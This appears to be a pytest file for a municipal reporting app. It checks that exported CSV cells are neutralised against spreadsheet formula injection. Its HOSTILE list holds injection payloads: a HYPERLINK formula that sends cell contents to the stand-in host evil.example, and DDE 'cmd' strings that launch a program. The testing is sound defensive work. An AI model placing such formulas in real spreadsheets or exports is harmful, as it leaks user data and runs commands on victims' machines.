"""Every CSV the app writes is safe to open in a spreadsheet (L-3): text cells that a spreadsheet
would run as a formula are neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from backend.domain.csv_file import safe_cell, write_csv
from tests.overview_support import add_unit
from tests.support import login

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_would_start_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    (row,) = list(csv.reader(io.StringIO(write_csv(["a"], [[text]])), delimiter=";"))[1:]
    assert row == ["'" + text]


def test_numbers_by_construction_stay_numbers_and_plain_text_is_untouched() -> None:
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3"  # text that looks like a number is still text
    assert safe_cell("Børnehuset Solsikken") == "Børnehuset Solsikken"
    assert safe_cell("<5") == "<5" and safe_cell("83 %") == "83 %"
    assert write_csv(["a", "b"], [[-1, "x;y"]]) == 'a;b\r\n-1;"x;y"\r\n'


def test_the_municipality_report_csv_neutralises_a_hostile_unit_name(client, demo, db) -> None:
    for index, text in enumerate(HOSTILE):
        unit = add_unit(db, f"placeholder {index}")
        unit.name = text  # as a database or an import could hold it, tabs and all
        db.add(unit)
    db.commit()
    login(client, "demo-admin")
    response = client.get("/api/reports/municipality.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    names = {row[2] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE} <= names
